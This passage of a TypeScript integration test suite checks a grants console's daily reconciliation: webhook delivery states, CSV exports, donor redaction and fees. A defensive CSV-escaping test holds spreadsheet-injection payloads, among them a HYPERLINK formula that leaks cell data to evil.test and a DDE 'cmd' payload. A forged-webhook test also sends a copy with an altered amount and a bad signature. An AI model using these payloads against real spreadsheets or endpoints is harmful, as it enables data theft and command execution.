// Own app: CONSOLE_TIME_ZONE (the day of the reconciliation), and the sandbox's grants of the day counted exactly.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { startApp } from '../helpers/app';
import { call, eventually, staffCookie, token } from '../helpers/http';
import { startReceiver, type TReceiver } from '../helpers/receiver';
import { screenshotPages } from '../helpers/screenshots';
import { dateIn, dayRange } from '../../lib/console/reconciliation/day-range';

// The daily reconciliation over HTTP, against the real service, worker and receivers: a day's
// grants (in CONSOLE_TIME_ZONE) per nonprofit, what each webhook was sent, delivered, received and
// verified, and every grant × webhook that differs, named in the timeline's vocabulary. Four
// webhooks: a console receiver holding the right secret (received and verified), a plain test
// receiver (delivered; this console cannot see it), a console receiver with a wrong secret (bad
// signature), and one disabled before the grants (never sent: a difference).

type TStarted = Awaited<ReturnType<typeof startApp>>;
const TZ = 'America/New_York';
let app: TStarted;
let receiver: TReceiver;
let tok: string;
const cookies: Record<'admin' | 'viewer', string> = { admin: '', viewer: '' };
const ids: Record<string, string> = {};
const slugs: Record<string, string> = {};
const grants: { id: string; trackingId: string; amount: number; createdAt: string; ein: string }[] = [];
let day = '';

const as = (who: keyof typeof cookies, method: string, p: string, body?: unknown) => call(app, method, p, { headers: { cookie: cookies[who] }, body });

async function consoleReceiverWebhook(name: string, rightSecret: boolean): Promise<string> {
  const inbox = await as('admin', 'POST', '/api/receivers', { name });
  assert.equal(inbox.status, 201, inbox.text);
  const created = await call(app, 'POST', '/v1/webhooks', {
    token: tok,
    body: { url: `${app.baseUrl}/ingest/${inbox.body.slug}`, eventTypes: ['grant.succeeded'], description: name },
  });
  assert.equal(created.status, 201, created.text);
  const secret = rightSecret
    ? (await call(app, 'GET', `/v1/webhooks/${created.body.id}/secret`, { token: tok })).body.key
    : `whsec_${Buffer.from('not the webhook secret, 32 bytes').toString('base64')}`;
  assert.equal((await as('admin', 'PATCH', `/api/receivers/${inbox.body.id}`, { secrets: [secret] })).status, 200);
  slugs[created.body.id] = inbox.body.slug;
  return created.body.id;
}

async function nonprofitKey(ein: string, name: string): Promise<string> {
  const np = await call(app, 'POST', '/v1/nonprofits', { token: tok, body: { ein, name, user: { email: `ops-${ein}@example.org` } } });
  assert.ok([200, 201].includes(np.status), np.text);
  const cid = (await call(app, 'POST', `/v1/connects?nonprofit=${np.body.id}`, { token: tok })).body.id;
  ids[ein] = np.body.id;
  return (await call(app, 'GET', `/v1/connects/${cid}`, { token: tok })).body.apiKey;
}

before(async () => {
  [app, receiver] = await Promise.all([startApp({ env: { CONSOLE_TIME_ZONE: TZ } }), startReceiver()]);
  [tok, cookies.admin] = await Promise.all([token(app), staffCookie(app)]);
  const viewer = await as('admin', 'POST', '/api/users', { email: 'viewer-recon@example.org', role: 'viewer' });
  cookies.viewer = await staffCookie(app, { email: 'viewer-recon@example.org', password: viewer.body.password });
  ids.verified = await consoleReceiverWebhook('recon verified', true);
  const plain = await call(app, 'POST', '/v1/webhooks', {
    token: tok,
    body: { url: receiver.endpoint(() => ({ status: 200 })).url, eventTypes: ['grant.succeeded'], description: 'recon plain' },
  });
  ids.plain = plain.body.id;
  ids.badSig = await consoleReceiverWebhook('recon bad signature', false);
  const off = await call(app, 'POST', '/v1/webhooks', {
    token: tok,
    body: { url: receiver.endpoint(() => ({ status: 200 })).url, eventTypes: ['grant.succeeded'], description: 'recon off' },
  });
  ids.off = off.body.id;
  assert.equal((await call(app, 'PATCH', `/v1/webhooks/${ids.off}`, { token: tok, body: { disabled: true } })).status, 200);
  const keyA = await nonprofitKey('530196605', 'Alpha Food Bank');
  const keyB = await nonprofitKey('131624100', 'Beta Library');
  for (const [key, amount, ein] of [
    [keyA, 15000, '530196605'],
    [keyA, 2500, '530196605'],
    [keyB, 99900, '131624100'],
  ] as const) {
    const g = await call(app, 'POST', '/v1/grants', {
      token: tok,
      headers: { 'x-service-api-key': key },
      body: { amount, fundId: 'fidelity-charitable', firstName: 'Ada', lastName: 'Lovelace', email: 'ada.recon@example.org' },
    });
    assert.equal(g.status, 201, g.text);
    grants.push({ id: g.body.id, trackingId: g.body.trackingId, amount, createdAt: g.body.createdAt, ein });
  }
  day = dateIn(TZ, new Date(grants[0].createdAt));
  // Every delivery settled: three webhooks got each grant.
  await eventually(
    async () => {
      const r = await as('admin', 'GET', `/api/reconciliation?date=${day}`);
      const hooks = (r.body.nonprofits ?? []).flatMap((n: any) => n.webhooks);
      return (
        hooks.length &&
        hooks
          .filter((w: any) => w.webhookId !== ids.off)
          .every((w: any) => w.delivered === w.sent && w.sent > 0 && (w.received === null || w.received === w.sent))
      );
    },
    30_000,
    'the deliveries to settle',
  );
});
after(async () => {
  await app?.stop();
  await receiver?.close();
});

describe('daily reconciliation', () => {
  test("JSON: totals, each nonprofit per webhook, and the differences in the timeline's words", async () => {
    const res = await as('admin', 'GET', `/api/reconciliation?date=${day}`);
    assert.equal(res.status, 200, res.text);
    assert.equal(res.body.date, day);
    assert.equal(res.body.timeZone, TZ);
    assert.deepEqual({ from: res.body.from, to: res.body.to }, { from: dayRange(day, TZ).after, to: dayRange(day, TZ).before });
    assert.equal(res.body.totals.grants, 3);
    assert.equal(res.body.totals.amount, 15000 + 2500 + 99900);
    const alpha = res.body.nonprofits.find((n: any) => n.ein === '530196605');
    assert.deepEqual([alpha.name, alpha.grants, alpha.amount, alpha.nonprofitId], ['Alpha Food Bank', 2, 17500, ids['530196605']]);
    const hook = (id: string) => alpha.webhooks.find((w: any) => w.webhookId === id);
    assert.deepEqual(hook(ids.verified), { webhookId: ids.verified, sent: 2, delivered: 2, received: 2, verified: 2, suspicious: 0 });
    assert.deepEqual(
      hook(ids.plain),
      { webhookId: ids.plain, sent: 2, delivered: 2, received: null, verified: null, suspicious: null },
      'not a receiver of this console: unknown, not zero',
    );
    assert.deepEqual(hook(ids.badSig), { webhookId: ids.badSig, sent: 2, delivered: 2, received: 2, verified: 0, suspicious: 0 });
    assert.deepEqual(
      hook(ids.off),
      { webhookId: ids.off, sent: 0, delivered: 0, received: null, verified: null, suspicious: null },
      'disabled before the grants: never sent',
    );
    const diffs = res.body.differences as { trackingId: string; grantId: string; webhookId: string; state: string }[];
    const of = (w: string) => diffs.filter((d) => d.webhookId === w).map((d) => d.state);
    assert.deepEqual(of(ids.verified), []);
    assert.deepEqual(of(ids.plain), [], 'delivered where this console cannot look is no difference');
    assert.deepEqual(of(ids.badSig), ['received-bad-signature', 'received-bad-signature', 'received-bad-signature']);
    assert.deepEqual(of(ids.off), ['not-sent', 'not-sent', 'not-sent'], 'a grant never sent to a webhook is a difference');
    assert.deepEqual(new Set(diffs.map((d) => d.trackingId)), new Set(grants.map((g) => g.trackingId)));
    assert.equal(res.body.totals.differences, 6);
    if (process.env.PEOPLE_SCREENSHOTS) await screenshotPages(app, cookies.admin, process.env.PEOPLE_SCREENSHOTS, [`/reconciliation?date=${day}`]);
  });

  test('a nonprofit filter (EIN or id), another day, and bad input named', async () => {
    for (const nonprofit of ['13-1624100', ids['131624100']]) {
      const res = await as('admin', 'GET', `/api/reconciliation?date=${day}&nonprofit=${nonprofit}`);
      assert.equal(res.status, 200, res.text);
      assert.deepEqual(
        res.body.nonprofits.map((n: any) => n.name),
        ['Beta Library'],
      );
      assert.deepEqual(res.body.totals, { grants: 1, amount: 99900, fee: 2897, net: 97003, currency: 'USD', differences: 2, suspicious: 0 });
    }
    const empty = await as('admin', 'GET', '/api/reconciliation?date=2020-01-01');
    assert.deepEqual(
      [empty.body.totals, empty.body.nonprofits, empty.body.differences],
      [{ grants: 0, amount: 0, fee: 0, net: 0, currency: 'USD', differences: 0, suspicious: 0 }, [], []],
    );
    // A day the service's dates cannot hold (its range ends after 9999-12-31T23:59:59Z) is named here, not passed on to come back as an "Upstream error".
    for (const [q, field] of [
      ['date=2026-02-30', 'date'],
      ['date=yesterday', 'date'],
      ['date=9999-12-31', 'date'],
      ['date=1969-12-31', 'date'],
      ['format=xml', 'format'],
      ['nonprofit=acme', 'nonprofit'],
      ['includeDonor=maybe', 'includeDonor'],
    ] as const) {
      const res = await as('admin', 'GET', `/api/reconciliation?${q}`);
      assert.equal(res.status, 400, `${q}: ${res.text}`);
      assert.equal(res.body.title, 'Bad Request', res.text);
      assert.equal(res.body.errors?.[0].path, field, res.text);
    }
    const last = await as('admin', 'GET', '/api/reconciliation?date=9999-12-31');
    assert.match(last.body.errors[0].message, /from 1970-01-01 to 9999-12-30/, 'what is allowed, in CONSOLE_TIME_ZONE');
    assert.equal((await as('admin', 'GET', '/api/reconciliation?date=9999-12-30')).status, 200);
    assert.equal((await as('admin', 'GET', '/api/reconciliation?date=1970-01-01')).status, 200);
    assert.equal((await call(app, 'GET', `/api/reconciliation?date=${day}`)).status, 401);
  });

  test('CSV: a header, one row per grant × webhook, donor details only when asked for by an operator', async () => {
    const res = await fetch(`${app.baseUrl}/api/reconciliation?date=${day}&format=csv`, { headers: { cookie: cookies.admin } });
    assert.equal(res.status, 200);
    assert.match(res.headers.get('content-type') ?? '', /^text\/csv/);
    assert.match(res.headers.get('content-disposition') ?? '', new RegExp(`reconciliation-${day}\\.csv`));
    const rows = parse(await res.text(), { columns: true }) as Record<string, string>[];
    assert.equal(rows.length, 3 * 4);
    for (const col of ['tracking_id', 'grant_id', 'webhook_id', 'state']) assert.ok(col in rows[0], col);
    const row = rows.find((r) => r.webhook_id === ids.badSig && r.grant_id === grants[2].id)!;
    assert.deepEqual(
      [row.tracking_id, row.ein, row.amount_cents, row.state, row.service_status, row.received, row.verified, row.arrivals],
      [grants[2].trackingId, '13-1624100', '99900', 'received-bad-signature', 'success', 'yes', 'no', '1'],
    );
    assert.equal(rows.find((r) => r.webhook_id === ids.off)!.service_status, 'not queued');
    assert.ok(
      rows.every((r) => r.donor_email === '[redacted]' && r.donor_first_name === '[redacted]'),
      'no donor details unless asked for',
    );
    const withDonor = await fetch(`${app.baseUrl}/api/reconciliation?date=${day}&format=csv&includeDonor=1`, { headers: { cookie: cookies.admin } });
    const full = parse(await withDonor.text(), { columns: true }) as Record<string, string>[];
    assert.ok(full.every((r) => r.donor_email === 'ada.recon@example.org' && r.donor_last_name === 'Lovelace'));
    const audit = await as('admin', 'GET', '/api/audit?action=export');
    assert.ok(
      audit.body.results.some((r: any) => r.detail.kind === 'reconciliation' && r.detail.includeDonor === true),
      audit.text,
    );
  });

  // Issue 50.3: finance files the CSV. Money in decimal with its currency (the service's fee and what
  // the nonprofit nets), the grant's status and fund as the service reports them, the time made in
  // CONSOLE_TIME_ZONE beside UTC, yes/no flags, arrivals counted apart, a way to count each grant once
  // over its rows (one per webhook), and a dictionary of the columns.
  test('CSV for finance: decimal money with its currency, status, fund, local time beside UTC, yes/no flags, and a column dictionary', async () => {
    const res = await fetch(`${app.baseUrl}/api/reconciliation?date=${day}&format=csv`, { headers: { cookie: cookies.admin } });
    const text = await res.text();
    assert.equal(
      text.slice(0, text.indexOf('\n')),
      'date,time_zone,tracking_id,grant_id,grant_created_at,grant_created_local,grant_status,fund_id,fund_name,nonprofit_id,ein,nonprofit_name,amount,fee,fee_covered_by_donor,net,currency,amount_cents,first_row_of_grant,' +
        'webhook_id,webhook_url,service_status,delivered,attempts,last_response_status,console_receiver,received,verified,arrivals,state,difference,suspicious_arrivals,donor_first_name,donor_last_name,donor_email',
      'the header is the first line: no comment line before it',
    );
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    const g = grants[2];
    const service = await call(app, 'GET', `/v1/grants/${g.id}`, { token: tok });
    assert.equal(service.status, 200, service.text);
    const of = (webhook: string) => rows.find((r) => r.webhook_id === webhook && r.grant_id === g.id)!;
    const local = new Date(g.createdAt).toLocaleString('sv-SE', { timeZone: TZ }); // 2026-11-28 23:15:02
    const verified = of(ids.verified);
    assert.deepEqual(
      [verified.grant_created_at, verified.grant_created_local, verified.time_zone, verified.grant_status, verified.fund_id, verified.fund_name],
      [g.createdAt, local, TZ, service.body.status, 'fidelity-charitable', 'Fidelity Charitable'],
    );
    // 999.00 at the service's 2.9 %: a fee of 28.97 (its feeAmount 2897), the nonprofit nets 970.03.
    assert.equal(service.body.feeAmount, 2897);
    assert.deepEqual(
      [verified.amount, verified.fee, verified.fee_covered_by_donor, verified.net, verified.currency, verified.amount_cents],
      ['999.00', '28.97', 'no', '970.03', 'USD', '99900'],
    );
    const flags = (r: Record<string, string>) => [r.service_status, r.delivered, r.console_receiver, r.received, r.verified, r.arrivals, r.state, r.difference];
    assert.deepEqual(flags(verified), ['success', 'yes', 'yes', 'yes', 'yes', '1', 'delivered-and-received', 'no']);
    assert.deepEqual(flags(of(ids.plain)), ['success', 'yes', 'no', '', '', '', 'not-observed', 'no'], 'an endpoint this console cannot see: unknown, not no');
    assert.deepEqual(flags(of(ids.badSig)), ['success', 'yes', 'yes', 'yes', 'no', '1', 'received-bad-signature', 'yes']);
    assert.deepEqual(flags(of(ids.off)), ['not queued', 'no', 'no', '', '', '', 'not-sent', 'yes']);
    // Each grant has four rows (one per webhook); first_row_of_grant marks one of them, so a SUMIF counts each grant once.
    const firsts = rows.filter((r) => r.first_row_of_grant === 'yes');
    assert.deepEqual(firsts.map((r) => r.grant_id).sort(), grants.map((x) => x.id).sort());
    assert.equal(rows.filter((r) => r.first_row_of_grant === 'no').length, 3 * 3);
    assert.equal(firsts.reduce((sum, r) => sum + Number(r.amount), 0).toFixed(2), ((15000 + 2500 + 99900) / 100).toFixed(2));
    const json = await as('admin', 'GET', `/api/reconciliation?date=${day}`);
    assert.deepEqual(
      [json.body.totals.fee, json.body.totals.net, json.body.totals.currency],
      [firsts.reduce((s2, r) => s2 + Math.round(Number(r.fee) * 100), 0), firsts.reduce((s2, r) => s2 + Math.round(Number(r.net) * 100), 0), 'USD'],
    );

    // The dictionary: every column in order with its meaning, as JSON, on the page, and in the guide.
    const dictionary = await as('viewer', 'GET', '/api/reconciliation/columns');
    assert.equal(dictionary.status, 200, dictionary.text);
    assert.deepEqual(
      dictionary.body.columns.map((c: any) => c.name),
      Object.keys(rows[0]),
    );
    assert.ok(
      dictionary.body.columns.every((c: any) => c.meaning.length > 10),
      dictionary.text,
    );
    assert.equal((await call(app, 'GET', '/api/reconciliation/columns')).status, 401);
    const guide = fs.readFileSync(path.resolve(import.meta.dirname, '../../docs/GUIDE.md'), 'utf8');
    const documented = [...guide.slice(guide.indexOf("### The CSV's columns")).matchAll(/^\| `([a-z_]+)` \|/gm)].map((m) => m[1]);
    assert.deepEqual(documented, Object.keys(rows[0]), 'docs/GUIDE.md lists the columns in order');
    const page = await (await fetch(`${app.baseUrl}/reconciliation?date=${day}`, { headers: { cookie: cookies.viewer } })).text();
    for (const name of Object.keys(rows[0])) assert.ok(page.includes(`>${name}</dt>`), `the page's dictionary names ${name}`);
  });

  test('every role reads it; a viewer cannot ask for donor details', async () => {
    const json = await as('viewer', 'GET', `/api/reconciliation?date=${day}`);
    assert.equal(json.status, 200, json.text);
    assert.equal(json.body.totals.grants, 3);
    const csv = await fetch(`${app.baseUrl}/api/reconciliation?date=${day}&format=csv`, { headers: { cookie: cookies.viewer } });
    assert.equal(csv.status, 200);
    assert.ok(!(await csv.text()).includes('ada.recon@example.org'));
    assert.equal((await as('viewer', 'GET', `/api/reconciliation?date=${day}&format=csv&includeDonor=1`)).status, 403);
    const page = await fetch(`${app.baseUrl}/reconciliation?date=${day}`, { headers: { cookie: cookies.viewer } });
    assert.equal(page.status, 200);
    const html = await page.text();
    assert.match(html, /Alpha Food Bank/);
    assert.match(html, /received, signature not verified/);
    assert.ok(!html.includes('ada.recon@example.org'));
  });

  test("the service extension: GET /v1/grants/deliveries streams the range's grants with their deliveries", async () => {
    const { after: from, before: to } = dayRange(day, TZ);
    const res = await fetch(`${app.baseUrl}/v1/grants/deliveries?after=${from}&before=${to}&nonprofit=530196605`, {
      headers: { authorization: `Bearer ${tok}` },
    });
    assert.equal(res.status, 200);
    assert.match(res.headers.get('content-type') ?? '', /application\/x-ndjson/);
    const lines = (await res.text())
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    assert.deepEqual(
      lines.map((l) => l.grantId),
      grants.filter((g) => g.ein === '530196605').map((g) => g.id),
      'oldest first',
    );
    assert.deepEqual(lines[0].deliveries.map((d: any) => d.webhookId).sort(), [ids.verified, ids.plain, ids.badSig].sort());
    assert.equal(lines[0].deliveries[0].status, 'success');
    const bad = await call(app, 'GET', `/v1/grants/deliveries?after=${to}&before=${from}`, { token: tok });
    assert.equal(bad.status, 400);
    assert.equal(bad.body.errors[0].path, 'before');
    const long = await call(app, 'GET', '/v1/grants/deliveries?after=2026-01-01T00:00:00Z&before=2026-03-01T00:00:00Z', { token: tok });
    assert.equal(long.status, 400, 'at most 31 days');
  });

  // Issue 50.2: after a grant was delivered and verified, a copy POSTed to its receiver with the same
  // webhook-id, an altered amount and a wrong signature must not turn it into a difference, nor
  // propose a resend (a second donation in the CRM): it is listed on its own as a suspicious arrival.
  test('a forged copy after a verified delivery: a suspicious arrival, never a difference or a resend', async () => {
    const g = grants[0];
    const msgs = await call(app, 'GET', `/v1/webhooks/${ids.verified}/messages?pageLimit=100`, { token: tok });
    const message = msgs.body.results.find((m: any) => m.tags.includes(`grant:${g.id}`));
    assert.ok(message, msgs.text);
    const sent = (await call(app, 'GET', `/v1/webhooks/${ids.verified}/messages/${message.id}`, { token: tok })).body;
    const body = JSON.stringify(sent.payload).replace(`"amount":${g.amount}`, `"amount":${g.amount * 100}`);
    assert.notEqual(body, JSON.stringify(sent.payload), 'the amount was altered');
    const forged = await fetch(`${app.baseUrl}/ingest/${slugs[ids.verified]}`, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        'webhook-id': message.id,
        'webhook-timestamp': String(Math.floor(Date.now() / 1000)),
        'webhook-signature': `v1,${Buffer.alloc(32, 7).toString('base64')}`,
      },
      body,
    });
    assert.equal(forged.status, 200, 'the receiver answers as it is set to');

    const res = await as('admin', 'GET', `/api/reconciliation?date=${day}`);
    assert.equal(res.status, 200, res.text);
    const diffs = (res.body.differences as { webhookId: string; trackingId: string }[]).filter((d) => d.webhookId === ids.verified);
    assert.deepEqual(diffs, [], 'a verified delivery stays verified');
    assert.equal(res.body.totals.differences, 6);
    assert.deepEqual(res.body.suspicious, [
      { trackingId: g.trackingId, grantId: g.id, nonprofitId: ids[g.ein], webhookId: ids.verified, state: 'delivered-and-received', arrivals: 1 },
    ]);
    assert.equal(res.body.totals.suspicious, 1);
    const alpha = res.body.nonprofits.find((n: any) => n.ein === g.ein);
    assert.deepEqual(
      alpha.webhooks.find((w: any) => w.webhookId === ids.verified),
      { webhookId: ids.verified, sent: 2, delivered: 2, received: 2, verified: 2, suspicious: 1 },
    );

    const csv = await fetch(`${app.baseUrl}/api/reconciliation?date=${day}&format=csv`, { headers: { cookie: cookies.admin } });
    const rows = parse(await csv.text(), { columns: true }) as Record<string, string>[];
    const row = rows.find((r) => r.webhook_id === ids.verified && r.grant_id === g.id)!;
    assert.deepEqual([row.received, row.verified, row.arrivals, row.state, row.suspicious_arrivals], ['yes', 'yes', '1', 'delivered-and-received', '1']);
    assert.ok(rows.filter((r) => r.webhook_id === ids.verified && r.grant_id !== g.id).every((r) => r.suspicious_arrivals === '0'));

    const problems = await as('admin', 'GET', '/api/problems');
    assert.equal(problems.status, 200, problems.text);
    const item = problems.body.items.find((i: any) => i.id === message.id && i.webhookId === ids.verified);
    assert.ok(item, `the suspicious arrival is a Problems row: ${problems.text}`);
    assert.equal(item.reconciliation, 'delivered-and-received');
    assert.equal(item.suspiciousArrivals, 1);
    assert.match(item.explanation, /^delivered: arrived .*; a suspicious arrival at .*do not resend.*rotate its URL and signing secret/);
    assert.doesNotMatch(item.explanation, /resend to check/);
    const group = problems.body.groups.find((gr: any) => gr.webhook.id === ids.verified);
    assert.deepEqual(
      group.counts.map((c: any) => [c.key, c.count]),
      [['suspicious-arrival', 1]],
    );
    const page = await (await fetch(`${app.baseUrl}/problems`, { headers: { cookie: cookies.admin } })).text();
    assert.match(
      page,
      new RegExp(
        `data-message-id="${message.id}" data-webhook-id="${ids.verified}" data-reconciliation="delivered-and-received" data-kind="suspicious-arrival"`,
      ),
    );

    const found = await as('admin', 'GET', `/api/search?q=${g.trackingId}`);
    const delivery = found.body.messages.find((m: any) => m.id === message.id).deliveries.find((d: any) => d.webhook.id === ids.verified);
    assert.equal(delivery.reconciliation, 'delivered-and-received');
    assert.deepEqual(
      delivery.receipts.map((r: any) => [r.verdict, r.suspicious ?? false]),
      [
        ['valid', false],
        ['invalid signature', true],
      ],
    );
    assert.match(delivery.explanation, /a suspicious arrival at .*not from the service/);
    const receiptPage = await (await fetch(`${app.baseUrl}/receipts/${delivery.receipts[1].id}`, { headers: { cookie: cookies.admin } })).text();
    assert.match(receiptPage, /Suspicious arrival: not from the service/);
    assert.match(receiptPage, /its body differs from what the service sent/);
    const verifiedPage = await (await fetch(`${app.baseUrl}/receipts/${delivery.receipts[0].id}`, { headers: { cookie: cookies.admin } })).text();
    assert.doesNotMatch(verifiedPage, /Suspicious arrival/);
  });
});

// Issue 49, item 5: every CSV the console makes goes through one writer with one rule — a text
// cell starting with = + - @ (tab, CR, or a full-width form) gets a leading apostrophe, a number
// stays a number. Donors give through the donor-facing Connect page under names a spreadsheet
// would run; their nonprofit is named like a formula too. (A leading tab or CR cannot reach a name:
// the page and the API trim it; tests/unit/csv-writer.test.ts covers those.)
describe('formulas in CSV cells', () => {
  const FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
  const NAMES = ['=HYPERLINK("http://evil.test/?leak="&A1,"Click")', "@SUM(1+9)*cmd|' /C calc'!A0", '+1+2', '-2+3', '\uFF1D1+1'];

  test('the timeline export and the reconciliation write a formula-like donor or nonprofit name as text', async () => {
    const np = await call(app, 'POST', '/v1/nonprofits', {
      token: tok,
      body: { ein: '043167352', name: '@SUM(1+1) Formula Friends', user: { email: 'ops-formula@example.org' } },
    });
    assert.ok([200, 201].includes(np.status), np.text);
    const cid = (await call(app, 'POST', `/v1/connects?nonprofit=${np.body.id}`, { token: tok })).body.id as string;
    const days = new Set([dateIn(TZ)]);
    for (const [i, name] of NAMES.entries()) {
      const fields = {
        fundId: 'vanguard-charitable',
        amount: `${10 + i}`,
        firstName: name,
        lastName: name,
        email: `${i % 2 ? '-' : '+'}donor${i}@example.org`,
      };
      const res = await call(app, 'POST', `/connect/${cid}/give`, {
        raw: new URLSearchParams(fields).toString(),
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
      });
      assert.equal(res.status, 303, res.text);
      assert.match(res.headers.get('location') ?? '', /\/thanks\?t=GC-/, `${name}: ${res.headers.get('location')}`);
    }
    days.add(dateIn(TZ)); // the gives may straddle midnight
    const read = async (p: string) => {
      const res = await fetch(`${app.baseUrl}${p}`, { headers: { cookie: cookies.admin } });
      assert.equal(res.status, 200, p);
      assert.match(res.headers.get('content-type') ?? '', /^text\/csv/);
      return parse(await res.text()) as string[][];
    };
    const recon = (await Promise.all([...days].map((d) => read(`/api/reconciliation?date=${d}&nonprofit=${np.body.id}&format=csv&includeDonor=1`)))).flatMap(
      (rows, i) => (i ? rows.slice(1) : rows),
    );
    const files = { timeline: await read(`/api/webhooks/${ids.verified}/export?format=csv&includeDonor=1`), reconciliation: recon };
    for (const [file, rows] of Object.entries(files)) {
      const cells = rows.flat();
      // The names are there (the test reads what it fed), each written as text.
      for (const name of NAMES)
        assert.ok(
          cells.some((c) => c.startsWith(`'${name}`)),
          `${file}: ${name} written with its apostrophe:\n${JSON.stringify(rows.slice(0, 8))}`,
        );
      assert.deepEqual(
        cells.filter((c) => FORMULA.test(c) && !/^-\d+(\.\d+)?$/.test(c)),
        [],
        `${file}: no cell starts like a formula`,
      );
    }
    // Numbers stay numbers: the amount column is summable.
    const [head, ...body] = recon;
    const col = (name: string) => body.map((r) => r[head.indexOf(name)]);
    assert.equal(body.length, NAMES.length * 4, 'a row per grant × webhook');
    assert.ok(
      col('amount_cents').every((a) => /^\d+$/.test(a)),
      'amounts are plain numbers',
    );
    assert.deepEqual(new Set(col('nonprofit_name')), new Set(["'@SUM(1+1) Formula Friends"]));
    assert.deepEqual(new Set(col('ein')), new Set(['04-3167352']), 'the EIN as text, its leading zero kept');
    assert.deepEqual(new Set(col('donor_first_name')), new Set(NAMES.map((n) => `'${n}`)));
    assert.ok(
      col('donor_email').includes("'-donor1@example.org") && col('donor_email').includes("'+donor0@example.org"),
      'an e-mail address starting with - or + too',
    );
  });
});

// Issue 50.3: a grant retried through a 500 drill is one donation — delivered yes, its arrivals
// counted apart — and a grant whose donor covered the fee nets its whole amount. The page lists
// every grant of the day (not only the differences), paged. Last in the file: its webhook, grants
// and subscription changes would change what the tests above count.
describe('finance: a 500 drill, a covered fee, and every grant on the page', () => {
  const EIN = '860123456';
  const drill = { webhook: '', receiver: '', key: '', day: '', grants: [] as { id: string; trackingId: string; createdAt: string }[] };
  type TLine = { grantId: string; deliveries: { webhookId: string; status: string; attemptCount: number; lastResponseStatusCode: number | null }[] };
  const lines = async (): Promise<TLine[]> => {
    const { after: from, before: to } = dayRange(drill.day, TZ);
    const res = await fetch(`${app.baseUrl}/v1/grants/deliveries?after=${from}&before=${to}&nonprofit=${EIN}`, { headers: { authorization: `Bearer ${tok}` } });
    assert.equal(res.status, 200);
    return (await res.text())
      .trim()
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l));
  };
  const onDrill = async () => (await lines()).flatMap((l) => l.deliveries.filter((d) => d.webhookId === drill.webhook));
  const give = async (amount: number, coveredFees: boolean) => {
    const g = await call(app, 'POST', '/v1/grants', {
      token: tok,
      headers: { 'x-service-api-key': drill.key },
      body: { amount, coveredFees, fundId: 'schwab-charitable', firstName: 'Grace', lastName: 'Hopper', email: 'grace.recon@example.org' },
    });
    assert.equal(g.status, 201, g.text);
    return { id: g.body.id as string, trackingId: g.body.trackingId as string, createdAt: g.body.createdAt as string };
  };
  const page = async (q: string) => {
    const res = await fetch(`${app.baseUrl}/reconciliation?date=${drill.day}&nonprofit=${EIN}${q}`, { headers: { cookie: cookies.viewer } });
    assert.equal(res.status, 200);
    const html = await res.text();
    return { html, grants: [...html.matchAll(/data-testid="recon-grant" data-tracking-id="(GC-[A-Z0-9]+)"/g)].map((m) => m[1]) };
  };

  before(async () => {
    drill.webhook = await consoleReceiverWebhook('recon drill', true);
    const receivers = await as('admin', 'GET', '/api/receivers');
    drill.receiver = receivers.body.results.find((r: any) => r.slug === slugs[drill.webhook]).id;
    drill.key = await nonprofitKey(EIN, 'Gamma Shelter');
  });

  test('a grant retried through a 500 drill: delivered yes, its arrivals counted apart; a covered fee nets the whole amount', async () => {
    assert.equal((await as('admin', 'PATCH', `/api/receivers/${drill.receiver}`, { responseStatus: 500 })).status, 200);
    drill.grants.push(await give(2500, true), await give(1000, false));
    drill.day = dateIn(TZ, new Date(drill.grants[0].createdAt));
    assert.equal(dateIn(TZ, new Date(drill.grants[1].createdAt)), drill.day, 'both grants on one day (not across midnight)');
    await eventually(
      async () => {
        const ds = await onDrill();
        return ds.length === 2 && ds.every((d) => d.attemptCount >= 1 && d.lastResponseStatusCode === 500);
      },
      30_000,
      'the drill answering 500',
    );
    assert.equal((await as('admin', 'PATCH', `/api/receivers/${drill.receiver}`, { responseStatus: 200 })).status, 200);
    const settled = await eventually(
      async () => {
        const ds = await onDrill();
        return ds.length === 2 && ds.every((d) => d.status === 'success') && ds;
      },
      30_000,
      'the retries to succeed',
    );
    const csv = await fetch(`${app.baseUrl}/api/reconciliation?date=${drill.day}&nonprofit=${EIN}&format=csv`, { headers: { cookie: cookies.admin } });
    const rows = parse(await csv.text(), { columns: true }) as Record<string, string>[];
    assert.equal(rows.length, 2 * 5, 'a row per grant × webhook: the four above and the drill');
    for (const [i, g] of drill.grants.entries()) {
      const row = rows.find((r) => r.grant_id === g.id && r.webhook_id === drill.webhook)!;
      const attempts = settled[i].attemptCount;
      assert.ok(attempts >= 2, `retried: ${attempts} attempts`);
      assert.deepEqual(
        [row.service_status, row.delivered, row.attempts, row.received, row.verified, row.arrivals, row.state, row.difference],
        ['success', 'yes', String(attempts), 'yes', 'yes', String(attempts), 'delivered-and-received', 'no'],
        `${g.trackingId}: every attempt arrived, one donation`,
      );
      assert.equal(rows.filter((r) => r.grant_id === g.id && r.first_row_of_grant === 'yes').length, 1);
    }
    const covered = rows.find((r) => r.grant_id === drill.grants[0].id)!;
    assert.deepEqual(
      [covered.amount, covered.fee, covered.fee_covered_by_donor, covered.net, covered.fund_name],
      ['25.00', '0.73', 'yes', '25.00', 'Schwab Charitable'],
    );
    const uncovered = rows.find((r) => r.grant_id === drill.grants[1].id)!;
    assert.deepEqual([uncovered.amount, uncovered.fee, uncovered.fee_covered_by_donor, uncovered.net], ['10.00', '0.29', 'no', '9.71']);
    const json = await as('admin', 'GET', `/api/reconciliation?date=${drill.day}&nonprofit=${EIN}`);
    assert.deepEqual([json.body.totals.amount, json.body.totals.fee, json.body.totals.net], [3500, 73 + 29, 2500 + 971]);
    const counts = json.body.nonprofits[0].webhooks.find((w: any) => w.webhookId === drill.webhook);
    assert.deepEqual(counts, { webhookId: drill.webhook, sent: 2, delivered: 2, received: 2, verified: 2, suspicious: 0 }, 'grants received, not arrivals');
  });

  test('the page lists the grants with a difference, or every grant of the day, 50 a page; a bad query is said in words', async () => {
    // From now on the disabled webhook and the one with the wrong secret take no grants: the grants
    // made next reconcile once delivered, the two above still differ (the wrong secret's arrivals).
    for (const id of [ids.off, ids.badSig])
      assert.equal((await call(app, 'PATCH', `/v1/webhooks/${id}`, { token: tok, body: { eventTypes: ['webhook.recovered'] } })).status, 200);
